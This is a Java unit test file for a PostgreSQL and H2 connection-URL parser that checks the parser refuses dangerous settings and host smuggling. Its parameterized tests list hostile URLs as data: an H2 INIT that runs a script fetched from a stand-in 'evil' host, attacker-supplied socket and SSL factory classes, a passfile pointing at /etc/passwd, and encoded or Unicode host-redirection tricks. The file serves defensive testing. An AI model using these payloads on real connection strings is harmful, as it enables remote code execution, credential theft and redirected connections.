package dev.binnacle.database.url;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.binnacle.base.ProblemException;
import dev.binnacle.database.ConnectionSettings;
import dev.binnacle.database.Location;
import dev.binnacle.database.Tls;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Map;
import java.util.Random;

class ConnectionUrlTest {
    @Test
    void aLibpqUrlBecomesSettingsAndItsPasswordIsSplitOff() {
        ConnectionUrl url =
                ConnectionUrl.parse(
                        "postgresql://ann:s%40fe@db.example:6432/my%20shop?sslmode=verify-full&sslrootcert=/ca.pem"
                            + "&statement_timeout=5s&application_name=x");
        ConnectionSettings settings = url.settings();
        assertThat(settings.location())
                .isEqualTo(new Location.PostgreSql("db.example", 6432, "my shop"));
        assertThat(settings.user()).isEqualTo("ann");
        assertThat(url.password()).isEqualTo("s@fe");
        assertThat(settings.tls()).isEqualTo(new Tls(Tls.Mode.VERIFY_FULL, "/ca.pem", null, null));
        assertThat(settings.session()).isEqualTo(Map.of("statement_timeout", "5s"));
        assertThat(settings.toString() + url).doesNotContain("s@fe");
    }

    @Test
    void theDriversOwnUrlIsReadToo() {
        ConnectionUrl url =
                ConnectionUrl.parse(
                        "jdbc:postgresql://[::1]/shop?user=ann&password=x&currentSchema=app&readOnly=true");
        assertThat(url.settings().location())
                .isEqualTo(new Location.PostgreSql("::1", 5432, "shop"));
        assertThat(url.settings().user()).isEqualTo("ann");
        assertThat(url.settings().readOnly()).isTrue();
        assertThat(url.settings().session()).isEqualTo(Map.of("search_path", "app"));
    }

    @Test
    void h2UrlsOfFilesMemoryAndServersAreRead() {
        ConnectionUrl file =
                ConnectionUrl.parse(
                        "jdbc:h2:file:/data/shop;MODE=PostgreSQL;USER=sa;PASSWORD=pw;IFEXISTS=TRUE");
        assertThat(file.settings().location()).isEqualTo(new Location.H2File("/data/shop"));
        assertThat(file.settings().session()).isEqualTo(Map.of("MODE", "PostgreSQL"));
        assertThat(file.password()).isEqualTo("pw");
        assertThat(ConnectionUrl.parse("jdbc:h2:~/shop").settings().location())
                .isEqualTo(new Location.H2File("~/shop"));
        assertThat(ConnectionUrl.parse("jdbc:h2:mem:test;DB_CLOSE_DELAY=-1").settings().location())
                .isEqualTo(new Location.H2Memory("test"));
        assertThat(ConnectionUrl.parse("jdbc:h2:tcp://box:9999/~/shop").settings().location())
                .isEqualTo(new Location.H2Server("box", 9999, "~/shop"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:/x;TRACE_LEVEL_FILE=4",
                "jdbc:h2:file:/x;AUTO_SERVER=TRUE",
                "jdbc:h2:file:/x;MODE=PostgreSQL;INIT=x",
                "jdbc:postgresql://h/d?socketFactory=org.Evil&socketFactoryArg=http://evil",
                "jdbc:postgresql://h/d?sslfactory=org.Evil",
                "jdbc:postgresql://h/d?preferQueryMode=simple",
                "jdbc:postgresql://h/d?authenticationPluginClassName=org.Evil",
                "jdbc:postgresql://h/d?loggerFile=/tmp/x",
                "postgresql://h/d?host=other",
                "postgresql://h/d?hostaddr=10.0.0.1",
                "postgresql://h/d?options=-c%20session_preload_libraries%3Dx",
                "postgresql://h/d?service=other",
            })
    void settingsOutsideTheAllowListAreRefusedByName(String url) {
        assertThatThrownBy(() -> ConnectionUrl.parse(url))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("BIN-114")
                .satisfies(refused -> {
                    String query =
                            url.substring(Math.max(url.lastIndexOf(';'), url.indexOf('?')) + 1);
                    assertThat(refused.getMessage())
                            .contains(query.substring(0, query.indexOf('=')));
                });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "mysql://h/d",
                "jdbc:h2:zip:/a.zip!/x",
                "jdbc:h2:nio:/x",
                "jdbc:h2:split:/x",
                "jdbc:h2:",
                "postgresql://a,b/d",
                "postgresql://h1:1,h2:2/d",
                "jdbc:postgresql://ann@h/d",
                "postgresql://h:99999/d",
                "postgresql://h:x/d",
                "postgresql://h/%zz",
                "postgresql://h/a b",
                "postgresql://h/d%00x",
                "postgresql://h/",
                "postgresql://ann:secret@h h/d",
                "jdbc:h2:tcp://a,b/x",
                "jdbc:h2:tcp://h"
            })
    void whatIsNoConnectionIsRefusedWithoutRepeatingSecrets(String url) {
        assertThatThrownBy(() -> ConnectionUrl.parse(url))
                .isInstanceOf(ProblemException.class)
                .satisfies(refused -> assertThat(refused.getMessage()).doesNotContain("secret"));
    }

    @Test
    void aHostIsShownAsItWillBeAskedFor() {
        for (String dot : new String[] {"\u2024", "\u3002", "\uFF0E"}) {
            String url = "postgresql://shown" + dot + "example/d";
            assertThat(ConnectionUrl.parse(url).settings().location().display())
                    .isEqualTo("shown.example:5432/d");
        }
        assertThat(ConnectionUrl.parse("postgresql://b\u00FCcher.example/d").settings().location())
                .isEqualTo(new Location.PostgreSql("xn--bcher-kva.example", 5432, "d"));
    }

    /** Each is refused, or leads to nothing but {@code shown.example} and its port. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "postgresql://ann@shown.example@evil.example/d",
                "postgresql://ann:p@ss@evil@shown.example/d",
                "postgresql://shown.example%2Cevil.example/d",
                "postgresql://shown.example%3A1%2Cevil.example/d",
                "postgresql://shown.example%2Fevil/d",
                "postgresql://shown.example%3Fhost=evil/d",
                "postgresql://shown.example%00.evil.example/d",
                "postgresql://shown.example\uFF0Fevil.example/d",
                "postgresql://shown.example\u202Eevil/d",
                "postgresql://shown.example\u200B/d",
                "postgresql://[shown.example]/d",
                "postgresql://[::1]evil.example/d",
                "postgresql://[::1%25eth0,evil]/d",
                "postgresql://shown.example/d?host=evil.example",
                "postgresql://shown.example/d?HOST=evil.example",
                "postgresql://shown.example/d?ho%73t=evil.example",
                "postgresql://shown.example/d?PGHOST=evil.example",
                "postgresql://shown.example/d?port=1",
                "postgresql://shown.example/d?dbname=other",
                "postgresql://shown.example/d%3Fhost=evil.example",
                "postgresql://shown.example/d%26host=evil.example",
                "postgresql://shown.example/d#host=evil.example",
                "postgresql://shown.example/d;INIT=x",
                "postgresql://shown.example/d?options=-c%20role%3Droot",
                "postgresql://shown.example/d?passfile=/etc/passwd",
                "postgresql://shown.example/d?sslpassword=x&sslfactory=org.Evil",
                "postgresql://shown.example/d?search_path=x&socketFactory=org.Evil",
                "postgresql://shown.example/d?search_path=a%20-c%20role%3Droot",
                "postgresql://evil.example\\@shown.example/d",
                "postgresql://shown.example\\.evil.example/d",
                "jdbc:postgresql://shown.example/d?currentSchema=x&targetServerType=any",
                "jdbc:postgresql://shown.example/d?kerberosServerName=evil",
                "jdbc:postgresql://shown.example/d?jaasApplicationName=evil",
                "jdbc:postgresql://shown.example/d?sslhostnameverifier=org.Evil",
                "jdbc:postgresql://shown.example/d?xmlFactoryFactory=org.Evil",
                "jdbc:postgresql:d?host=evil.example",
                "jdbc:h2:tcp://shown.example,evil.example/d",
                "jdbc:h2:tcp://shown.example/d;INIT=RUNSCRIPT FROM 'x'",
                "jdbc:h2:tcp://shown.example/d;init=x",
                "jdbc:h2:tcp://shown.example/d;\u0130NIT=x",
                "jdbc:h2:tcp://shown.example/d;SCHEMA=a\\;INIT=x",
                "jdbc:h2:tcp://shown.example/d;SCHEMA=a b;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:tcp://shown.example@evil.example/d",
                "jdbc:h2:tcp://shown.example/mem:d",
                "jdbc:h2:TCP://shown.example/d;ACCESS_MODE_DATA=rw;CIPHER=AES",
            })
    void nothingSmuggledLeadsElsewhere(String url) {
        ConnectionUrl read;
        try {
            read = ConnectionUrl.parse(url);
        } catch (ProblemException refused) {
            assertThat(refused.problem().code().id()).startsWith("BIN-1");
            assertThat(refused.problem().hint()).isNotEmpty();
            return;
        }
        assertThat(read.settings().location())
                .satisfiesAnyOf(
                        place ->
                                assertThat(place)
                                        .isInstanceOfSatisfying(
                                                Location.PostgreSql.class,
                                                at -> {
                                                    assertThat(at.host())
                                                            .isEqualTo("shown.example");
                                                    assertThat(at.port()).isEqualTo(5432);
                                                }),
                        place ->
                                assertThat(place)
                                        .isInstanceOfSatisfying(
                                                Location.H2Server.class,
                                                at -> {
                                                    assertThat(at.host())
                                                            .isEqualTo("shown.example");
                                                    assertThat(at.port()).isEqualTo(9092);
                                                }));
        assertThat(read.settings().session().keySet())
                .allMatch(name -> name.matches("(?i)search_path|schema"));
    }

    @Test
    void anyNoiseLeadsToTheHostItShowsOrIsRefused() {
        var random = new Random(7);
        String nasty = "= '\\ ?&#;%@:/[]+,a1";
        int read = 0;
        for (int round = 0; round < 20_000; round++) {
            StringBuilder noise = new StringBuilder();
            for (int count = random.nextInt(12); count >= 0; count--) {
                noise.append(nasty.charAt(random.nextInt(nasty.length())));
            }
            try {
                ConnectionUrl url = ConnectionUrl.parse("postgresql://shown.example/" + noise);
                assertThat(url.settings().location())
                        .isInstanceOfSatisfying(
                                Location.PostgreSql.class,
                                location -> {
                                    assertThat(location.host()).isEqualTo("shown.example");
                                    assertThat(location.port()).isEqualTo(5432);
                                });
                read++;
            } catch (ProblemException refused) {
                assertThat(refused.problem().code().id()).startsWith("BIN-1");
            }
        }
        assertThat(read).isPositive();
    }
}
